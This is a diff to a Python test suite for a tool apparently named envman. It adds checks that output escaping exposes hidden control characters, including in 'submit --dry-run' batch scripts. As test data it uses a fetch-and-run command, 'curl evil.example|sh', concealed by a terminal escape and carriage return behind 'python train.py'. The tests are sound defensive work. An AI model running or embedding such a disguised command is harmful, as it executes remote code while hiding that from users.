@@ -343,8 +343,8 @@ UNSAFE = [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A
 @settings(max_examples=300, deadline=None)
 def test_printable_leaves_no_control_character_and_keeps_safe_text(text):
     out = printable(text)
-    assert not any(c in out for c in UNSAFE)
-    if not any(c in text for c in UNSAFE):
+    assert not any(c in out for c in UNSAFE) and out.isprintable()
+    if text.isprintable() and not any(c in text for c in "\u115f\u1160\u3164\uffa0"):
         assert out == text
 
 
@@ -389,7 +389,9 @@ def _env(tmp_path: Path) -> dict[str, str]:
 
 
 def _no_raw_controls(text: str) -> None:
+    """By rule (envman.errors.printable): nothing but visible characters, spaces and line ends."""
     assert not any(c in text for c in UNSAFE if c != "\n"), repr(text)
+    assert all(c.isprintable() or c == "\n" for c in text), repr(text)
 
 
 OUTPUTS = [
@@ -414,6 +416,21 @@ def test_every_output_of_file_or_state_data_is_escaped(hostile, tmp_path):
         seen.append(r.stdout + r.stderr)
     assert any("curl evil.example" in s for s in seen)  # the hidden part is shown, escaped
     assert any("\\x1b[2K" in s for s in seen)
+
+
+@pytest.mark.parametrize("runtime", ["docker", "podman", "pyxis", "apptainer", "charliecloud"])
+def test_a_dry_run_batch_script_shows_every_character_of_the_command(home, tmp_path, runtime):
+    """What ``submit --dry-run`` prints is what a user reads before a job runs: a command that
+    hides part of itself from a terminal is shown whole, quoted so the line still means it."""
+    root = tmp_path / "plain"
+    root.mkdir()
+    (root / "envman.toml").write_text(STACK + HOSTILE_CMD + "[environment]\nK = \"v\"\n")
+    env = _env(tmp_path)
+    assert run_envman(["project", "trust", str(root)], env=env).returncode == 0
+    r = run_envman(["submit", str(root), "--dry-run", "--runtime", runtime], env=env)
+    assert r.returncode == 0, r.stderr
+    _no_raw_controls(r.stdout)
+    assert "curl evil.example|sh\\x1b[2K\\x0dpython train.py" in r.stdout
 
 
 def test_a_newline_in_a_registered_name_cannot_forge_a_line(home, tmp_path, hostile):
